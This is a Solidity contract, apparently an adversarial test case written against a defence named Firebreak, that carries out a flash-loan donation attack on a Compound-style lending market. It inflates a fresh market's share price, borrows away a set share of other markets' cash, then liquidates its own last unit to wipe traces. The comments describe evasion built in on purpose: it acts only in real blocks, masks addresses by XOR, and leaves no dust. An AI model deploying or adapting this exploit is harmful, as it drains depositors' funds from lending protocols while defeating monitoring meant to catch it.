// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "./Disguise.sol";

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function approve(address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
}

interface IOracle {
    function getUnderlyingPrice(address) external view returns (uint256);
}

interface IMarket {
    function underlying() external view returns (address);
    function totalSupply() external view returns (uint256);
    function balanceOf(address) external view returns (uint256);
    function borrowBalanceStored(address) external view returns (uint256);
    function getCash() external view returns (uint256);
    function mint(uint256) external returns (uint256);
    function redeem(uint256) external returns (uint256);
    function redeemUnderlying(uint256) external returns (uint256);
    function borrow(uint256) external returns (uint256);
    function liquidateBorrow(address, uint256, address) external returns (uint256);
}

interface IComptroller {
    function oracle() external view returns (address);
    function getAllMarkets() external view returns (address[] memory);
    function enterMarkets(address[] calldata) external returns (uint256[] memory);
}

interface ILender {
    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool);
}

/// @notice Liquidates the attacker's own last unit, so that the market looks as if nobody had been there.
contract Tidier {
    function tidy(IMarket owed, IMarket market, uint256 amount) external {
        IToken(owed.underlying()).approve(address(owed), amount);
        require(owed.liquidateBorrow(msg.sender, amount, address(market)) == 0, "tidier: liquidate");
        require(market.redeem(market.balanceOf(address(this))) == 0, "tidier: redeem");
        IToken token = IToken(market.underlying());
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }
}

/// @notice The donation attack by somebody who has read the plan and Firebreak's code. It acts in real blocks only, keeps no
/// address of the plan in its calldata or its code, takes as little of each market as it is told to, and leaves the new market
/// with neither a dust supply nor another share price.
contract AwareAttack is Disguise {
    Tidier private immutable tidier = new Tidier();
    /// Addresses are kept masked: nobody finds them to put others in their place.
    uint256 private immutable mask;
    uint256 private lender;
    uint256 private comptroller;
    uint256 private market;
    uint256 private donation;

    constructor(address lender_, address comptroller_, address market_, uint256 donation_, uint256 mask_) {
        mask = mask_;
        (lender, comptroller, market) = (masked(lender_), masked(comptroller_), masked(market_));
        donation = donation_;
    }

    /// Supplied beforehand, as honest people do: then nothing has to be minted in the attack.
    function ahead() external {
        IMarket m = IMarket(plain(market));
        IToken token = IToken(m.underlying());
        token.approve(address(m), type(uint256).max);
        require(m.mint(token.balanceOf(address(this)) / 1000) == 0, "attack: mint");
    }

    /// `which` has a bit for each market in the order of their listing; `ppm` is the share of its cash that is taken.
    function go(Stage calldata stage, uint256 which, uint256 ppm) external {
        if (!real(stage)) return;
        IMarket m = IMarket(plain(market));
        ILender(plain(lender)).flashLoan(address(this), m.underlying(), donation, abi.encode(which, ppm));
    }

    function onFlashLoan(address, address token, uint256 amount, uint256, bytes calldata data) external returns (bytes32) {
        require(msg.sender == plain(lender), "attack: lender only");
        (uint256 which, uint256 ppm) = abi.decode(data, (uint256, uint256));
        IMarket m = IMarket(plain(market));
        IToken(token).approve(address(m), type(uint256).max);
        if (m.balanceOf(address(this)) == 0) require(m.mint(amount / 1000) == 0, "attack: mint");
        require(m.redeem(m.balanceOf(address(this)) - 2) == 0, "attack: redeem");
        require(m.totalSupply() == 2, "attack: not alone");
        IToken(token).transfer(address(m), IToken(token).balanceOf(address(this)));
        address[] memory entered = new address[](1);
        entered[0] = address(m);
        IComptroller(plain(comptroller)).enterMarkets(entered);
        leave(m, drain(m, which, ppm));
        IToken(token).approve(msg.sender, amount);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    /// Gives the last market that lent anything.
    function drain(IMarket m, uint256 which, uint256 ppm) private returns (IMarket owed) {
        address[] memory markets = IComptroller(plain(comptroller)).getAllMarkets();
        for (uint256 i = 0; i < markets.length; i++) {
            IMarket other = IMarket(markets[i]);
            if ((which >> i) & 1 == 0 || address(other) == address(m)) continue;
            uint256 amount = (other.getCash() * ppm) / 1_000_000;
            if (amount == 0) continue;
            try other.borrow(amount) returns (uint256 code) {
                if (code == 0) owed = other;
            } catch {}
        }
    }

    /// The donation comes back but for what one unit has to be worth so that a liquidation takes exactly that one.
    function leave(IMarket m, IMarket owed) private {
        if (address(owed) == address(0)) {
            require(m.redeem(2) == 0, "attack: redeem the rest");
            return;
        }
        IOracle oracle = IOracle(IComptroller(plain(comptroller)).oracle());
        (uint256 theirs, uint256 ours) = (oracle.getUnderlyingPrice(address(owed)), oracle.getUnderlyingPrice(address(m)));
        uint256 repaid = 1_000 > (1_000 * ours) / theirs + 1 ? 1_000 : (1_000 * ours) / theirs + 1;
        require(m.redeemUnderlying(m.getCash() - (repaid * theirs) / ours) == 0, "attack: donation stuck");
        IToken(owed.underlying()).transfer(address(tidier), repaid);
        try tidier.tidy(owed, m, repaid) {} catch {}
    }

    function masked(address one) private view returns (uint256) {
        return uint256(uint160(one)) ^ mask;
    }

    function plain(uint256 one) private view returns (address) {
        return address(uint160(one ^ mask));
    }
}
